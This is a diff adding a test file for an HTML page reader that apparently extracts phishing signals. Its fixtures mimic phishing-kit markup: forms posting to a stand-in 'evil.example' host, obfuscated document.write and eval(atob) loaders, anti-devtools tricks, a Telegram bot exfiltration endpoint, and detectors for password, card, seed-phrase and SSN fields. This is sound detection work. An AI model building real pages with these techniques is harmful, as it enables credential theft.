@@ -1,0 +1,263 @@
+import { describe, expect, test } from 'bun:test';
+import type { PageDocument, PageOrigin } from '#src/network/html/document.ts';
+import { USUAL_HTML_LIMITS } from '#src/network/html/limits.ts';
+import { readPage } from '#src/network/html/read-page.ts';
+import { createRandom } from '#test/support/random.ts';
+
+const url = 'https://page.example/dir/index.html';
+
+function read(html: string, limits = USUAL_HTML_LIMITS): PageDocument {
+  return readPage(new TextEncoder().encode(html), { contentType: 'text/html; charset=utf-8', url }, limits);
+}
+
+const RICH = `<!doctype html><html lang=en><head><title>Pay&#80;al &amp; co</title><base href="/b/">
+<meta name=description content="Sign &quot;in&quot;"><link rel="shortcut icon" href="i.ico">
+<script>var a = "</div>"; document.write(unescape('%3Cform%20action%3Dpost.php%3E'));</script></head>
+<body oncontextmenu="return false"><h1>Hello <b>you</b></h1><p style="display: none">sec&shy;ret &notin; &am
+<label>Your <i>password</i> <input type=password name=p></label><button formaction="https://x.example/">Go&hellip;</button>
+<!-- a comment --><svg><title>no</title><a href=/svg><text>x</text></a></svg><noscript><a href=/ns>n</a></noscript>
+<iframe srcdoc="<form action=inner><input name=card_number></form>"></iframe><textarea><a href=no></textarea>
+<table><tr><td>Kennwort:<td><input name=x type=password></table><a href="&#106;avascript:x">d</a>&#83;ign é 日本`;
+
+describe('a page', () => {
+  test.each([1, 2, 3, 7, 64, 1000, 1_000_000])('fed in chunks of %d gives the same document', (chunkCharacters) => {
+    expect(read(RICH, { ...USUAL_HTML_LIMITS, chunkCharacters })).toEqual(read(RICH));
+  });
+
+  test('is JSON and stays what it was', () => {
+    const page = read(RICH);
+    expect(JSON.parse(JSON.stringify(page))).toEqual(page);
+  });
+
+  test.each(Array.from({ length: 40 }, (_, i) => Math.floor((RICH.length * i) / 40)))(
+    'cut after %d characters is still read',
+    (length) => {
+      expect(read(RICH.slice(0, length)).url).toBe(url);
+    },
+  );
+
+  test('made of random bytes is read without an exception', () => {
+    const random = createRandom(4);
+    for (let round = 0; round < 50; round++) {
+      const bytes = Uint8Array.from({ length: 2000 }, () => random.below(256)).map((byte) => (byte % 5 ? byte : 0x3c));
+      for (const contentType of [null, 'text/html; charset=utf-16le', 'text/html; charset=iso-2022-jp']) {
+        expect(readPage(bytes, { contentType, url }).limits).toEqual([]);
+      }
+    }
+  });
+});
+
+describe('text', () => {
+  test('that an inline style hides is kept apart', () => {
+    const page = read('<p>Shown</p><div style="DISPLAY : none"><p>Secret</p></div><p hidden>Also</p><p>End');
+    expect(page.visibleText).toBe('Shown\nEnd');
+    expect(page.hiddenText).toBe('Secret\nAlso');
+  });
+
+  test('of a body that a script will show is visible', () => {
+    expect(read('<body style="visibility:hidden"><p>Sign in').visibleText).toBe('Sign in');
+  });
+
+  test('of a template is hidden, that of a choice is not part of the page', () => {
+    const page = read('<head>No body tag<template><p>Later</p></template><select><option>Albania</select>');
+    expect([page.visibleText, page.hiddenText]).toEqual(['No body tag', 'Later']);
+  });
+
+  test('of a comment-like section ends at the first >, as browsers read it', () => {
+    expect(read('<![CDATA[ a > shown <a href=/x>b</a>').links).toHaveLength(1);
+  });
+
+  test('of an element that breaks out of a drawing is read as HTML again', () => {
+    const page = read('<svg><p><title>T</title><textarea><a href=/no></textarea>');
+    expect([page.title, page.links]).toEqual(['T', []]);
+  });
+
+  test('with NUL characters inside a word reads as the word', () => {
+    expect(read('Pay\0pal').visibleText).toBe('Paypal');
+  });
+
+  test('spelt in character references is decoded and counted', () => {
+    const page = read('<title>&#83;&#105;&#x67;n &#8364;</title>&#65;');
+    expect(page.title).toBe('Sign €');
+    expect(page.counts.spelledTitleLetters).toBe(3);
+    expect(page.counts.spelledLetters).toBe(4);
+  });
+});
+
+describe('forms', () => {
+  test('are sent to where the base says', () => {
+    const [form] = read('<form action=login.php method=POST><base href=https://evil.example/kit/>').forms;
+    expect(form).toMatchObject({ action: 'https://evil.example/kit/login.php', method: 'post' });
+  });
+
+  test('keep to the page where the base is no web address', () => {
+    expect(read('<base href="data:text/html,x"><form action=in>').forms[0]?.action).toBe('https://page.example/dir/in');
+  });
+
+  test('without an action are sent to the page', () => {
+    expect(read('<form><input></form><form action="#">').forms.map((form) => form.action)).toEqual([url, url]);
+  });
+
+  test('keep where their buttons send them', () => {
+    const [form] = read('<form action=/safe><input type=password><button formaction=https://evil.example/>Go').forms;
+    expect(form).toMatchObject({ buttonActions: ['https://evil.example/'], buttonTexts: ['Go'] });
+  });
+
+  test('that are no form element, only fields for a script, are gathered in one', () => {
+    expect(read('<div><input type=email><input type=password></div>').forms).toMatchObject([
+      { element: false, action: null, scripted: true, fields: [{ kind: 'email' }, { kind: 'password' }] },
+    ]);
+  });
+
+  test('in templates, shadow roots, inner pages and written markup are told apart', () => {
+    const origins = [
+      '<template><form></form></template>',
+      '<div><template shadowrootmode=open><form></form></template></div>',
+      `<iframe srcdoc='<form></form>'></iframe>`,
+      `<script>document.write(unescape("%3Cform%3E%3C/form%3E"))</script>`,
+      `<script>var s = '\\x3cform\\x3e'; document.write(s)</script>`,
+      `<script>eval(atob("${btoa('document.write("<form></form>")')}"))</script>`,
+      `<script>document.body.innerHTML = decodeURIComponent(escape(atob("${btoa('<form></form>')}")))</script>`,
+      `<script>document.write(String.fromCharCode(${[...'<form></form>'].map((c) => c.charCodeAt(0)).join(', ')}))</script>`,
+      `<iframe src="data:text/html;base64,${btoa('<form></form>')}"></iframe>`,
+      `<iframe src="data:text/html,%3Cform%3E"></iframe>`,
+      '<noscript><form></form></noscript>',
+    ].map((html) => read(html).forms.map((form) => form.origin));
+    const written = Array<PageOrigin[]>(5).fill(['written']);
+    expect(origins).toEqual([['template'], ['shadow'], ['srcdoc'], ...written, ['srcdoc'], ['srcdoc'], ['noscript']]);
+  });
+
+  test('of a long inner page are seen', () => {
+    const inner = `${'x'.repeat(20_000)}<form action=/late></form>`;
+    expect(read(`<iframe srcdoc="${inner}"></iframe>`).forms.map((form) => form.actionAttribute)).toEqual(['/late']);
+  });
+
+  test('may begin in written markup and go on in the page', () => {
+    const page = read(`<script>document.write("<form action=a.php>")</script><input type=password>`);
+    expect(page.forms).toMatchObject([{ actionAttribute: 'a.php', fields: [{ type: 'password' }] }]);
+  });
+
+  test('of an inner page end with it', () => {
+    const page = read(
+      `<form action=/outer><iframe srcdoc="<form action=/inner><input name=i>"></iframe><input name=o>`,
+    );
+    expect(page.forms.map((form) => form.fields.map((field) => field.name))).toEqual([['o'], ['i']]);
+  });
+});
+
+describe('fields are known by type, name or label', () => {
+  const kindOf = (html: string) => read(`<form>${html}</form>`).forms[0]?.fields[0]?.kind;
+  test.each([
+    ['password', '<input type=password name=x>'],
+    ['password', '<input type=text placeholder="Passwort">'],
+    ['password', '<input type=text style="-webkit-text-security: disc">'],
+    ['password', '<label for=q>密码</label><input id=q>'],
+    ['password', '<input autocomplete="section-a current-password">'],
+    ['password', '<td>Mot de passe :</td><td><input name=mc></td>'],
+    ['card_number', '<input name="cardNumber">'],
+    ['card_number', '<input placeholder="Número de tarjeta">'],
+    ['card_code', '<input type=password name=cvv>'],
+    ['one_time_code', '<input name=c placeholder="SMS-Code">'],
+    ['one_time_code', '<input autocomplete=one-time-code>'],
+    ['seed_phrase', '<textarea placeholder="Enter your 12-word secret phrase"></textarea>'],
+    ['identity_number', '<input name=ssn>'],
+    ['email', '<input name=login_email>'],
+    ['email', '<input placeholder="Adresse e-mail">'],
+    ['user_name', '<label>Benutzername <input></label>'],
+    ['phone', '<input type=tel name=t>'],
+    ['search', '<input type=search name=password>'],
+    ['hidden', '<input type=hidden name=password>'],
+    ['other', '<input type=checkbox name=remember_password>'],
+    ['other', '<select name=password></select>'],
+  ])('%s: %s', (kind, html) => {
+    expect(kindOf(html)).toBe(kind as never);
+  });
+
+  test('an e-mail address that is filled in for the visitor is kept', () => {
+    const [form] = read('<form><input name=e value=anna@corp.example><input value=x@y>').forms;
+    expect(form?.fields.map((field) => field.presetEmail)).toEqual(['anna@corp.example', null]);
+  });
+});
+
+describe('links and what a page loads', () => {
+  test('dead links are counted', () => {
+    const { counts } = read(
+      '<a href=#>a</a><a href="javascript:void(0)">b</a><a href="">c</a><a href=/x>d</a><a>e</a>',
+    );
+    expect(counts).toMatchObject({ links: 4, deadLinks: 3 });
+  });
+
+  test('icons, pictures in styles and alternative texts are kept with their address', () => {
+    const page = read(
+      '<link rel="shortcut icon" href=/f.ico><img src=https://logo.example/l.png alt=Logo><p style="background:url(bg.png)">' +
+        '<style>a{background:url("https://cdn.example/s.svg")}</style><img src="data:image/png;base64,AAAA">',
+    );
+    expect(page.assets.map(({ kind, url, alt }) => [kind, url, alt])).toEqual([
+      ['icon', 'https://page.example/f.ico', ''],
+      ['image', 'https://logo.example/l.png', 'Logo'],
+      ['image', 'https://page.example/dir/bg.png', ''],
+      ['image', 'https://cdn.example/s.svg', ''],
+      ['image', null, ''],
+    ]);
+  });
+
+  test('a redirect by meta refresh is resolved', () => {
+    const orders = ['0;url=https://evil.example/', '5; URL=x', '0; "/q"', '3', '1,/y', 'x;/z', ''].map(
+      (content) => read(`<meta http-equiv=refresh content='${content}'>`).refreshes[0],
+    );
+    expect(orders.map((order) => [order?.delaySeconds, order?.url])).toEqual([
+      [0, 'https://evil.example/'],
+      [5, 'https://page.example/dir/x'],
+      [0, 'https://page.example/q'],
+      [3, url],
+      [1, 'https://page.example/y'],
+      [null, null],
+      [null, null],
+    ]);
+  });
+});
+
+describe('scripts', () => {
+  const marksOf = (script: string) => read(`<script>${script}</script>`).scripts.marks;
+  test.each([
+    ['blocks_context_menu', 'document.addEventListener("contextmenu", e => e.preventDefault())'],
+    ['blocks_developer_tools', 'if (event.keyCode == 123) return false'],
+    ['packed', 'eval(function(p,a,c,k,e,d){})'],
+    ['hex_identifiers', Array.from({ length: 12 }, (_, i) => `_0x1a2b3${i % 10}=1`).join(';')],
+    ['evaluates_encoded_text', 'eval(atob(x))'],
+    ['encoded_markup', 'document.write(unescape("%3Cp%3E"))'],
+    ['reads_email_from_address', 'var email = window.location.hash.substr(1)'],
+    ['posts_by_script', '$.post("x.php", {})'],
+    ['looks_for_bots', 'if (navigator.webdriver) stop()'],
+    ['redirects', 'window.location.href = "https://x.example"'],
+  ])('%s', (mark, script) => {
+    expect(marksOf(script)).toContain(mark as never);
+    expect(marksOf('var a = 1; function go() { return a }')).toEqual([]);
+  });
+
+  test('the loader of a statistics service is no encoded page', () => {
+    expect(marksOf(`document.write(unescape("%3Cscript src='//s.example/ga.js'%3E%3C/script%3E"))`)).toEqual([]);
+  });
+
+  test('addresses are found, also escaped and encoded ones', () => {
+    const script = `post("https:\\/\\/api.telegram.org\\/bot1:a\\/sendMessage"); x = atob("${btoa('https://hidden.example/p')}")`;
+    expect(read(`<script>${script}</script>`).scripts.endpoints).toEqual([
+      'https://api.telegram.org/bot1:a/sendMessage',
+      'https://hidden.example/p',
+    ]);
+  });
+
+  test('of other types than JavaScript are only counted', () => {
+    const { scripts } = read('<script type="application/ld+json">{"a":"https://x.example"}</script>');
+    expect(scripts).toMatchObject({ inlineCount: 1, endpoints: [] });
+  });
+});
+
+test('what lies deeper than the budget is still read', () => {
+  const page = read(
+    `${'<div>'.repeat(1000)}<form action=/deep><input type=password></form>${'</div>'.repeat(1000)}<h1>End`,
+  );
+  expect(page.forms).toMatchObject([{ actionAttribute: '/deep', fields: [{ kind: 'password' }] }]);
+  expect(page.headings).toEqual(['End']);
+  expect(page.limits).toEqual(['depth']);
+});
